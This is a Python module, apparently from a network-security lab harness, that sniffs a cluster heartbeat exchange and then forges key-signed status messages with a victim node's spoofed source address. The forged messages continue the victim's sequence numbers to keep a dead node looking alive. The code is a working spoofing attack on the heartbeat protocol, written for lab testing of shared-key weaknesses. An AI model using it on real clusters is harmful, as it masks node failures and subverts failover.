"""Forge heartbeats: keep a dead node "alive" by speaking in its name.

An attacker on the heartbeat segment who knows the key can do exactly this, and
that is what a shared key means. The forger learns the victim's last sequenced
message as its peer received it (sniffing the peer's eth1 inside the lab), then
sends `status` messages continuing that sequence from another lab host, with the
victim's source address, signed with the key it was given.
"""

from __future__ import annotations

import select
import threading
import time
from dataclasses import dataclass
from typing import Any

from scapy.layers.inet import IP, UDP
from scapy.layers.l2 import Ether

from lab import netsock
from lab.hbcodec import CodecError, FieldType, Keyring, Message, keyring_of, parse_untrusted
from lab.hbpacket import signed_datagram
from lab.topology import Topology

HB_PORT = 694
ETH_P_IP = 0x0800
SEQ_SKIP = 5


@dataclass
class Learned:
    """What the forger knows of the victim: its last message and highest seq."""

    last: Message | None = None
    max_seq: int = 0
    seen: int = 0


class StatusForger:
    def __init__(
        self,
        topo: Topology,
        netns: dict[str, str],
        victim: str,
        target: str,
        sender: str,
        keys: Keyring | Any,
    ) -> None:
        self.topo, self.victim, self.target = topo, victim, target
        self.keys = keyring_of(keys)
        victim_host, target_host = topo.host(victim), topo.host(target)
        sender_host = topo.host(sender)
        assert victim_host and target_host and sender_host
        self.victim_ip = str(victim_host.address_on("eth1").ip)  # type: ignore[union-attr]
        target_if = target_host.interface("eth1")
        assert target_if is not None
        self.target_ip, self.target_mac = str(target_if.address.ip), target_if.mac
        sender_if = sender_host.interface("eth1")
        assert sender_if is not None
        self.sender_mac = sender_if.mac
        self.sniff_sock = netsock.packet_socket(netns[target], "eth1", ETH_P_IP)
        self.send_sock = netsock.packet_socket(netns[sender], "eth1", ETH_P_IP)
        self.learned = Learned()
        self.sent = 0
        self._stop = threading.Event()
        self._threads: list[threading.Thread] = []

    # -- learning ------------------------------------------------------------------
    def start_learning(self, max_seconds: float = 300.0) -> None:
        self._spawn(self._learn_loop, max_seconds)

    def _learn_loop(self, max_seconds: float) -> None:
        deadline = time.monotonic() + max_seconds
        while not self._stop.is_set() and time.monotonic() < deadline:
            ready, _, _ = select.select([self.sniff_sock], [], [], 0.1)
            if ready:
                self._observe(self.sniff_sock.recv(65535))

    def _observe(self, frame: bytes) -> None:
        pkt = Ether(frame)
        if UDP not in pkt or pkt[UDP].dport != HB_PORT or pkt[IP].src != self.victim_ip:
            return
        try:
            msg = parse_untrusted(bytes(pkt[UDP].payload)).message
        except CodecError:
            return
        seq = msg.get("seq")
        if msg.get("src") != self.victim or seq is None:
            return
        self.learned.seen += 1
        self.learned.max_seq = max(self.learned.max_seq, int(seq, 16))
        if msg.type == "status":
            self.learned.last = msg

    # -- forging -------------------------------------------------------------------
    def forge_status(self, seq: int, now: float) -> bytes:
        """A status from the victim, continuing its sequence, signed with our key."""
        template = self.learned.last
        if template is None:
            raise RuntimeError(f"never saw a status from {self.victim} to copy")
        msg = Message()
        for field in template:
            if field.name == "auth":
                continue
            if field.name == "seq":
                msg.add("seq", f"{seq:x}")
            elif field.name == "ts":
                msg.add("ts", f"{int(now):x}")
            elif field.type is FieldType.STRING:
                msg.add(field.name, field.value)
            else:
                msg.fields.append(field)
        return signed_datagram(msg, self.keys)

    def start_forging(self, interval: float, max_seconds: float = 300.0) -> None:
        self._spawn(self._forge_loop, interval, max_seconds)

    def _forge_loop(self, interval: float, max_seconds: float) -> None:
        deadline = time.monotonic() + max_seconds
        # Skip a few: frames still queued in the sniffer must not make us reuse a seq.
        seq = self.learned.max_seq + SEQ_SKIP
        while not self._stop.is_set() and time.monotonic() < deadline:
            seq += 1
            payload = self.forge_status(seq, time.time())
            frame = (
                Ether(src=self.sender_mac, dst=self.target_mac)
                / IP(src=self.victim_ip, dst=self.target_ip)
                / UDP(sport=32768, dport=HB_PORT)
                / payload
            )
            self.send_sock.send(bytes(frame))
            self.sent += 1
            self._stop.wait(interval)

    # -- life ----------------------------------------------------------------------
    def _spawn(self, target: object, *args: object) -> None:
        thread = threading.Thread(target=target, args=args, daemon=True)  # type: ignore[arg-type]
        thread.start()
        self._threads.append(thread)

    def stop(self) -> None:
        self._stop.set()
        for thread in self._threads:
            thread.join(5.0)
        self.sniff_sock.close()
        self.send_sock.close()
